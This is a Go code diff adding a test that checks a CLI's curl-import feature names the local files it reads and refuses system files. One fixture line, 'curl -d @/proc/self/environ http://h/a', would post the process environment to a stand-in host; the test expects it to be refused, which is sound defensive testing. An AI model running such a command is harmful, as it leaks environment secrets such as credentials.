@@ -2,6 +2,7 @@ package e2e
 
 import (
 	"database/sql"
+	"os"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -41,5 +42,28 @@ func TestStoreE2EForeignTriggerRefusedOrDropped(t *testing.T) {
 	}
 	if r := runBin(t, db, nil, "list", "--jq", "length"); r.Code != 0 || r.Stdout != "4\n" {
 		t.Errorf("after the drop: %+v", r)
+	}
+}
+
+// TestImportCurlNamesTheFilesItRead: import --format curl says every local
+// file its commands made it read, and refuses the system's own files.
+func TestImportCurlNamesTheFilesItRead(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	for name, body := range map[string]string{"body.json": `{"a":1}`, "event.json": `{"e":2}`,
+		"c.sh":   "curl -d @" + dir + "/body.json http://h/a\ncurl -d @" + dir + "/event.json http://h/b\ncurl -d @" + dir + "/body.json http://h/c\n",
+		"env.sh": "curl -d @/proc/self/environ http://h/a\n"} {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	db := filepath.Join(dir, "h.db")
+	r := runBin(t, db, nil, "import", filepath.Join(dir, "c.sh"), "--format", "curl")
+	if r.Code != 0 || !strings.Contains(r.Stderr, "read 2 local files: "+dir+"/body.json, "+dir+"/event.json\n") {
+		t.Errorf("import: %+v", r)
+	}
+	r = runBin(t, db, nil, "import", filepath.Join(dir, "env.sh"), "--format", "curl")
+	if r.Code != 2 || !strings.Contains(r.Stderr, "-d @/proc/self/environ: is under /proc") {
+		t.Errorf("import of @/proc/self/environ: %+v", r)
 	}
 }
